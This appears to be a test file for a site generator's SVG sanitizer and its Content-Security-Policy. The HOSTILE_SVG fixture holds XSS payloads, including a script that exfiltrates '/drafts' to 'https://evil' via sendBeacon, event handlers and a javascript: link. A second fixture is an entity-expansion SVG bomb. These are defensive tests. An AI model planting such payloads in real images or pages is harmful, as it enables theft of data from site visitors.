"""Published files carry no active content: SVG images lose their scripts, handlers and outside
references (or are refused), and every page sends a Content-Security-Policy that forbids inline
script — which the pages do not need."""
from __future__ import annotations

import re
from html.parser import HTMLParser

from conftest import run_cli

CSP = ("default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; "
       "object-src 'none'; base-uri 'self'; form-action 'self'")

HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="10" height="10" onload="alert(document.domain)">
<script>fetch('/drafts').then(r => r.text()).then(t => navigator.sendBeacon('https://evil', t))</script>
<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>
<image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
<a href="javascript:alert(1)"><rect width="10" height="10" fill="url(#g)"/></a>
<set attributeName="onmouseover" to="alert(2)"/>
</svg>"""


def _with_image(site, name: str, data: bytes) -> None:
    (site / "content/2024/01" / name).write_bytes(data)
    doc = site / "content/2024/01/first.md"
    doc.write_text(doc.read_text(encoding="utf-8") + f"\n![图]({name})\n", encoding="utf-8")


def test_an_svg_is_published_without_its_active_content(minimal_site, tmp_path):
    _with_image(minimal_site, "chart.svg", HOSTILE_SVG)
    out = tmp_path / "o"
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0, result.err
    published = (out / "2024/01/chart.svg").read_text(encoding="utf-8")
    for active in ("<script", "onload", "foreignObject", "evil.example", "javascript:",
                   "onmouseover", "<set"):
        assert active not in published
    assert 'fill="url(#g)"' in published and "<rect" in published
    warning = next(line for line in result.lines if "chart.svg" in line)
    assert warning.startswith("warning: content/2024/01/chart.svg:1: image: active content "
                              "removed from the SVG before publishing")
    for said in ("event handler onload=", "<script>", "<foreignObject>",
                 "https://evil.example/pixel.png", "javascript:alert(1)", "<set> changing"):
        assert said in warning


def test_a_clean_svg_is_published_byte_for_byte(minimal_site, tmp_path):
    clean = b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>\n'
    _with_image(minimal_site, "dot.svg", clean)
    out = tmp_path / "o"
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0 and "dot.svg" not in result.err
    assert (out / "2024/01/dot.svg").read_bytes() == clean


def test_an_svg_with_entities_is_refused(minimal_site, tmp_path):
    bomb = (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>')
    _with_image(minimal_site, "bomb.svg", bomb)
    out = tmp_path / "o"
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out", str(out))
    assert result.code == 0
    assert ("warning: content/2024/01/bomb.svg:1: image: the SVG is refused: it declares a "
            "DOCTYPE or entities, which can expand without bound or read other files; it is "
            "not published") in result.lines
    assert not (out / "2024/01/bomb.svg").exists()


def test_an_image_above_the_limit_of_site_yaml_is_a_warning(minimal_site, tmp_path):
    config = minimal_site / "site.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "image_limit_kb: 10\n",
                      encoding="utf-8")
    _with_image(minimal_site, "big.png", b"\x89PNG\r\n\x1a\n" + bytes(20 * 1024))
    result = run_cli("--site", str(minimal_site), "build", "--no-pdf", "--out",
                     str(tmp_path / "o"))
    assert result.code == 0
    assert ("warning: content/2024/01/big.png:1: image: the image is 20 KB, above the 10 KB of "
            "site.yaml's image_limit_kb: every reader downloads it and each PDF of its issue "
            "embeds it; make it smaller") in result.lines


class _Resources(HTMLParser):
    """What a page loads and runs: the CSP meta, scripts, inline styles, loaded URLs."""

    def __init__(self):
        super().__init__()
        self.csp, self.inline_scripts, self.inline_styles, self.loads = [], 0, 0, []

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "meta" and attrs.get("http-equiv") == "Content-Security-Policy":
            self.csp.append(attrs["content"])
        if tag == "script" and "src" not in attrs and attrs.get("type") != "application/ld+json":
            self.inline_scripts += 1
        if tag == "style" or "style" in attrs or any(a.startswith("on") for a in attrs):
            self.inline_styles += 1
        if tag in ("script", "img", "iframe", "embed", "object") and attrs.get("src"):
            self.loads.append(attrs["src"])
        if tag == "link" and attrs.get("rel") in ("stylesheet", "icon", "preload"):
            self.loads.append(attrs["href"])


def test_every_page_forbids_inline_script_and_needs_nothing_else(web_edition):
    pages = sorted(web_edition.rglob("*.html"))
    assert len(pages) > 5
    for page in pages:
        found = _Resources()
        found.feed(page.read_text(encoding="utf-8"))
        # the search page alone may compile Pagefind's WebAssembly (still no inline script)
        expected = CSP.replace("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'") \
            if page.parent.name == "search" else CSP
        assert found.csp == [expected], page
        assert found.inline_scripts == 0 and found.inline_styles == 0, page
        for url in found.loads:  # all from the gazette's own origin
            assert not re.match(r"^([a-z]+:|//)", url), (page, url)
